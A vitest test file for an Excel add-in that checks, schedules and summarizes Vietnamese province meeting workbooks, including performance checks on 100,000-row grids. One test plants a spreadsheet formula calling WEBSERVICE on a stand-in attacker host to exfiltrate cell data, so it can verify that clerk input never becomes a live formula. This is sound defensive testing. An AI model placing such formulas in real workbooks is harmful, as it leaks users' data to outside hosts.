// Every command end to end through the in-memory Excel: the example workbook and the
// province workbook with 10 and 100,000 issue rows (same sync count except payload chunks).
import { describe, it, expect, beforeAll } from 'vitest';
import { findMarker, markerFor, type WorkbookGrid } from '@giaoban/core';
import { validateCommand, planCommand, summarizeCommand, templateCommand, clearMarksCommand, selectFindingCommand } from '../../addin/src/commands/workbookCommands.js';
import { fakeFromGrid, hostFor, exampleGrid, largeGrid } from './support/fakeHost.js';

let example: WorkbookGrid;
beforeAll(async () => {
  example = await exampleGrid();
}, 120_000);

describe('commands on the example workbook (ExcelApi 1.1 — Office 2016)', () => {
  it('Kiểm tra dữ liệu writes Kết quả kiểm tra with every finding, clerk data untouched', async () => {
    const fake = fakeFromGrid(example, { apiVersion: '1.1' });
    const before = example.sheets.map((s) => fake.valuesOf(s.name));
    const host = hostFor(fake);
    const r = await validateCommand(host);
    expect(r.summary.errors).toBeGreaterThan(0); // the example carries planted mistakes
    expect(r.written).toHaveLength(1);
    const out = fake.valuesOf(r.written[0]!.sheet);
    expect(findMarker(out)).toBe(markerFor('findings'));
    const codes = out.flat().filter((v) => typeof v === 'string');
    for (const f of r.findings.slice(0, 20)) expect(codes).toContain(f.code);
    example.sheets.forEach((s, i) => expect(fake.valuesOf(s.name)).toEqual(before[i]));
    // click a finding → its cell is selected
    const f = r.findings[0]!;
    await selectFindingCommand(host, f);
    expect(fake.selection).toEqual({ sheet: f.sheet, address: f.cell });
  });

  it('Lập lịch giao ban, Tổng hợp, Tạo sổ mẫu and re-runs replace only the product\'s sheets', async () => {
    const fake = fakeFromGrid(example, { apiVersion: '1.1' });
    const host = hostFor(fake);
    const plan = await planCommand(host, { months: 6 });
    const planSheet = plan.written[0]!.sheet;
    expect(findMarker(fake.valuesOf(planSheet))).toBe(markerFor('plan'));
    expect(fake.valuesOf(planSheet).flat()).toContain('Xã đăng cai');
    const sum = await summarizeCommand(host, {});
    expect(sum.written.map((w) => w.action)).toEqual(['create', 'create']);
    expect(findMarker(fake.valuesOf(sum.written[0]!.sheet))).toBe(markerFor('summary'));
    expect(sum.narrative.vi.length).toBeGreaterThan(40);
    const n = fake.sheets.length;
    await summarizeCommand(host, {});
    await planCommand(host, { months: 6 });
    expect(fake.sheets.length).toBe(n); // replaced, not multiplied
    const t = await templateCommand(host);
    expect(t.written.length).toBeGreaterThan(3);
    expect(t.written.every((w) => w.action === 'create')).toBe(true);
    expect(fake.sheets.length).toBe(n + t.written.length);
  });

  it('highlights and drop-downs on request (ExcelApi 1.8), and Xóa đánh dấu removes exactly them', async () => {
    const fake = fakeFromGrid(example, { apiVersion: '1.8' });
    const host = hostFor(fake);
    const before = example.sheets.map((s) => JSON.stringify(fake.sheet(s.name).validations));
    const r = await validateCommand(host, { highlight: true, dropdowns: true });
    expect(r.messages.map((m) => m.en).join(' ')).toMatch(/Highlighted \d+ cells/);
    const marked = fake.sheets.filter((s) => s.formats.some((f) => f.key === 'fill.color'));
    expect(marked.length).toBeGreaterThan(0);
    const c = await clearMarksCommand(host);
    expect(c.messages[0]!.en).toMatch(/Removed \d+ marks/);
    for (const s of example.sheets) {
      const sh = fake.sheet(s.name);
      expect(JSON.stringify(sh.validations)).toBe(before[example.sheets.indexOf(s)]);
      const g = fake.valuesOf(s.name);
      for (let r0 = 0; r0 < g.length; r0 += 7) for (let c0 = 0; c0 < (g[r0]?.length ?? 0); c0 += 3) expect(fake.fillOf(sh, { r0, c0, rows: 1, cols: 1 })).toBe('#FFFFFF');
    }
  });

  it('a clerk\'s content "=WEBSERVICE(...)" never becomes a formula in any output', async () => {
    const grid = structuredClone(example);
    const issues = grid.sheets.find((s) => s.values.some((r) => r.some((v) => typeof v === 'string' && /Nội dung/i.test(v))))!;
    const hr = issues.values.findIndex((r) => r.some((v) => typeof v === 'string' && /Nội dung/i.test(v)));
    const col = issues.values[hr]!.findIndex((v) => typeof v === 'string' && /Nội dung/i.test(v));
    issues.values[hr + 1]![col] = '=WEBSERVICE("http://attacker.example/?d="&A1)';
    issues.values[hr + 2]![col] = '=1+1';
    const fake = fakeFromGrid(grid);
    const host = hostFor(fake);
    await validateCommand(host);
    await summarizeCommand(host);
    for (const s of fake.sheets) for (const row of s.cells) for (const cell of row ?? []) expect(cell?.formula).toBeUndefined();
  });
});

describe('10 rows and 100,000 rows: the same syncs except payload chunks', () => {
  const grids: Record<number, WorkbookGrid> = {};
  beforeAll(async () => {
    grids[10] = await largeGrid(10);
    grids[100_000] = await largeGrid(100_000);
  }, 240_000);

  it('validate and summarize keep a constant sync count; every request < 4 MB', async () => {
    const rows: Record<string, { syncs: number; chunks: number; maxReq: number; maxResp: number }[]> = {};
    for (const n of [10, 100_000]) {
      for (const [name, run] of [['validate', validateCommand], ['summarize', summarizeCommand]] as const) {
        const fake = fakeFromGrid(grids[n]!);
        const r = await run(hostFor(fake), {});
        (rows[name] ??= []).push({ syncs: fake.stats.syncs, chunks: r.io.chunkSyncs, maxReq: Math.max(...fake.stats.requestBytes), maxResp: Math.max(...fake.stats.responseBytes) });
        expect(r.io.syncs).toBe(fake.stats.syncs);
      }
    }
    for (const [name, [small, large]] of Object.entries(rows)) {
      expect(small!.syncs - small!.chunks, name).toBe(large!.syncs - large!.chunks);
      expect(large!.chunks, name).toBeGreaterThan(0);
      expect(large!.maxReq, name).toBeLessThan(4 * 1024 * 1024);
      expect(large!.maxResp, name).toBeLessThan(5 * 1024 * 1024);
    }
  }, 240_000);
});
